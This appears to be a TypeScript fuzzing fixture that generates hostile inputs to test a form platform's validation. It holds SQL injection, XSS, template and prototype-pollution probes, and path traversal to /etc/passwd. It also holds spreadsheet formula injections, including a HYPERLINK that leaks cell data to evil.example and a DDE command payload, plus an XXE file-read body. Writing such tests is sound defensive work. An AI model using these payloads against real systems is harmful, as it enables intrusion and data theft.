/** What hostile or broken programs send: values of every wrong kind, and forms that are nearly right. */
import fc from 'fast-check';
import { v7 as uuidv7 } from 'uuid';
import type { Field } from '#kernel/record.ts';

/** Text meant for another reader than the platform: SQL, spreadsheets, browsers, shells, terminals, parsers. */
export const HOSTILE = [
  `'; drop table journal; --`,
  `' or '1'='1`,
  `\\'; select pg_sleep(5); --`,
  `$$; delete from firm; $$`,
  `%' union select password_hash from account_secret --`,
  `=1+1`,
  `=HYPERLINK("http://evil.example/?"&A1,"点我")`,
  `+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(A1:A9)`,
  `\t=1+1`,
  `\r=1+1`,
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `\${process.env.HOME}`,
  `{{constructor.constructor('return 1')()}}`,
  `../../../../etc/passwd`,
  `a\r\nset-cookie: zs_session=planted`,
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff演示',
  '\u202e卜算',
  '\ufeff',
  'ﷺ'.repeat(50),
  '演'.repeat(30_000),
  '%00',
  '%2e%2e%2f',
] as const;

const DAYS = [
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  '99999-01-01',
  '2026-13-01',
  '-infinity',
  'infinity',
  'now()',
  '2026-11-20',
];
const NUMBERS = [0, -1, 1e308, -1e308, 2 ** 53, 0.1, 1e21, -0, 2 ** 31, 2 ** 63];

export const wrong: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<unknown>(...HOSTILE) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(...NUMBERS, ...DAYS) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  fc.constantFrom<unknown>(null, true, false, '', ' ', [], {}, [[]], [null], [{}], { a: { b: { c: {} } } }),
  fc.constantFrom<unknown>({ $enc: 'x', $key: 'y' }, { toString: 1 }, { length: 1e9 }, ['__proto__']),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.uuid(),
);

/** A value that fits the field. */
export function fitting(field: Field, ids: (record: string) => readonly string[]): fc.Arbitrary<unknown> {
  const id = fc.constantFrom(...(ids(field.of ?? '').length > 0 ? ids(field.of ?? '') : [uuidv7()]));
  switch (field.kind) {
    case 'int':
    case 'money':
      return fc.integer({ min: field.min ?? 0, max: field.max ?? 10_000 });
    case 'day':
      return fc.constantFrom('2026-11-20', '2026-12-01', '2026-11-01', '2031-01-01');
    case 'instant':
      return fc.constant('2026-11-20T10:00:00+08:00');
    case 'bool':
      return fc.boolean();
    case 'ref':
      return id;
    case 'refs':
      return fc.array(id, { minLength: 1, maxLength: 3 });
    case 'files':
      return fc.constant([]);
    case 'choice':
      return fc.constantFrom(...(field.choices ?? [{ value: 'other' }]).map((c) => c.value));
    case 'choices':
      return fc.subarray((field.choices ?? []).map((c) => c.value));
    case 'json':
      return fc.constantFrom<unknown>([], {}, ['2026-01-01'], [{ id: 'a', label: 'b' }], 5);
    default:
      return fc.constantFrom('演示文字', '990102.scjg', '2026-11-20', '13900000000');
  }
}

/** A form of these fields in which most values fit and some do not, some are missing, and some were never asked for. */
export function nearlyRight(
  fields: Readonly<Record<string, Field>>,
  ids: (record: string) => readonly string[],
): fc.Arbitrary<Record<string, unknown>> {
  const entries = Object.entries(fields).map(([name, field]) => {
    const value = fc.oneof({ weight: 5, arbitrary: fitting(field, ids) }, { weight: 2, arbitrary: wrong });
    return fc.option(value, { freq: 12, nil: undefined }).map((v) => [name, v] as const);
  });
  return fc
    .tuple(
      fc.tuple(...entries),
      fc.option(fc.tuple(fc.constantFrom('id', 'state', 'unit', 'constructor', 'x'), wrong), { freq: 8 }),
    )
    .map(([all, extra]) => Object.fromEntries([...all.filter(([, v]) => v !== undefined), ...(extra ? [extra] : [])]));
}

/** Bodies that are no form at all, as text. */
export const broken: fc.Arbitrary<{ readonly type: string; readonly text: string }> = fc.record({
  type: fc.constantFrom(
    'application/json',
    'application/json; charset=utf-16',
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data',
    'multipart/form-data; boundary=x',
    'application/xml',
    'text/html',
    '',
    'garbage',
  ),
  text: fc.oneof(
    fc.constantFrom(
      '',
      '{',
      'null',
      '[]',
      '"x"',
      '123',
      'NaN',
      '{"a":1,"a":2}',
      '{"__proto__":{"admin":true}}',
      '{"constructor":{"prototype":{"admin":true}}}',
      '{"input":{"__proto__":{"polluted":true}}}',
      '{"input":1e999}',
      '{"id":"\\ud800"}',
      '{"input":{"a":"\\u0000"}}',
      '['.repeat(20_000),
      `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
      `{"input":${'['.repeat(3_000)}${']'.repeat(3_000)}}`,
      `{"words":"${'演'.repeat(60_000)}"}`,
      '--x\r\ncontent-disposition: form-data; name="file"\r\n\r\n',
      '--x\r\ncontent-disposition: form-data; name="file"; filename="../../x.pdf"\r\n\r\n%PDF-1.4\r\n--x--\r\n',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ),
    fc.json(),
    fc.string({ unit: 'binary', maxLength: 200 }),
  ),
});

/** A part of an address that should be a name or a number. */
export const address: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'firm',
    'alert',
    'plan',
    '..',
    '%2e%2e',
    '%00',
    '%',
    '__proto__',
    'constructor',
    'toString',
    "firm';--",
    '演示',
    'x'.repeat(300),
    '-1',
    '1e9',
  ),
  fc.uuid(),
  fc.string({ maxLength: 12 }),
);
